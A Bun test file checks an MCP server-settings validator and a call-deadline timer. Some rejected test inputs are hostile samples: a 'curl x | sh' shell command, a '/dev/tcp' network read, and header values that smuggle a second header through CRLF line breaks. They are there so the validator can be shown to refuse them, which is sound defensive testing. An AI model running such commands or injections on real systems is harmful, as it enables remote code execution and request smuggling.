/** What an entry of mcp_servers may say, and how long calls may take. */

import { expect, test } from "bun:test";
import { Deadlines } from "../../lib/mcp/deadlines.ts";
import { readServerSettings } from "../../lib/mcp/server-settings.ts";

const url = "https://mcp.example/mcp";

test.each<[string, unknown, string]>([
	["nothing", null, "the entry: "],
	["no command", { args: [] }, "command: "],
	[
		"a shell that downloads",
		{ command: "bash", args: ["-c", "curl x | sh"] },
		"its command is a shell that downloads something",
	],
	[
		"the same by its path",
		{ command: "/bin/sh", args: ["-c", "cat </dev/tcp/x/1"] },
		"its command is a shell that downloads",
	],
	["a time that is none", { command: "x", timeout: "soon" }, "timeout: "],
	["no host", { url: "http://:8080" }, 'url: "http://:8080" is no address'],
	["no address", { url: "mcp.example" }, 'url: "mcp.example" is no address'],
	["another scheme", { url: "file:///x" }, "url: "],
	["an unknown transport", { url, transport: "websocket" }, "transport: "],
	[
		"a header with another one in it",
		{ url, headers: { A: "secret\r\nB: c" } },
		"headers: the value of A has a line break",
	],
	["a header that is none", { url, headers: { "A\r\nB": "c" } }, 'headers: "A\r\nB" is no name of a header'],
	["two keys", { url, client_cert: ["a", "b"], client_key: "c" }, "client_cert: it names a key already"],
	["a key to nothing", { url, client_key: "c" }, "client_key: there is no client_cert to it"],
])("readServerSettings() refuses %s", (_name, entry, reason) => {
	expect(readServerSettings(entry)).toEqual({ ok: false, reason: expect.stringContaining(reason) });
});

test.each<[string, unknown, object]>([
	[
		"words for yes and no, and numbers as texts",
		{ command: "x", enabled: "no", timeout: "5", supports_parallel_tool_calls: "on", args: [1], env: { A: 1 } },
		{ kind: "stdio", enabled: false, timeout: 5, supports_parallel_tool_calls: true, args: ["1"], env: { A: "1" } },
	],
	[
		"one wanted tool as a text",
		{ command: "x", tools: { include: "a" } },
		{ tools: { include: ["a"], resources: true } },
	],
	[
		"times that no timer can wait for",
		{ command: "x", timeout: 1e12, connect_timeout: "99999999" },
		{ timeout: 172_800, connect_timeout: 172_800 },
	],
	["an address as streamable HTTP", { url }, { kind: "http", isGuessed: true }],
	["what other clients call it", { url, type: "streamable-http" }, { kind: "http", isGuessed: false }],
	["the older way", { url, type: "sse" }, { kind: "sse" }],
	["a key with the end of its line", { url, headers: { A: "b\n" } }, { headers: { A: "b\n" } }],
	["certificate and key", { url, client_cert: "a", client_key: "b", ssl_verify: "off" }, { ssl_verify: false }],
])("readServerSettings() understands %s", (_name, entry, settings) => {
	expect(readServerSettings(entry)).toMatchObject({ ok: true, settings });
});

test("readServerSettings() warns of a command beside a url, and of variables that are not set", () => {
	const read = readServerSettings({ url, command: "x", headers: { Authorization: "Bearer ${NOT_SET}" } });
	expect(read.ok && read.warnings).toEqual([
		"it has a url and a command: the command is not started",
		"Authorization names ${NOT_SET}, which is set neither in .env nor in the environment",
	]);
});

test("Deadlines let no call run out of time while somebody is asked something", async () => {
	const deadlines = new Deadlines();
	using before = deadlines.begin(40);
	await deadlines.whilePaused(async () => {
		using during = deadlines.begin(40);
		await Bun.sleep(120);
		expect({ before: before.signal.aborted, during: during.signal.aborted }).toEqual({ before: false, during: false });
	});
	expect(before.signal.aborted).toBe(false);
	await new Promise((resolve) => before.signal.addEventListener("abort", resolve));
});
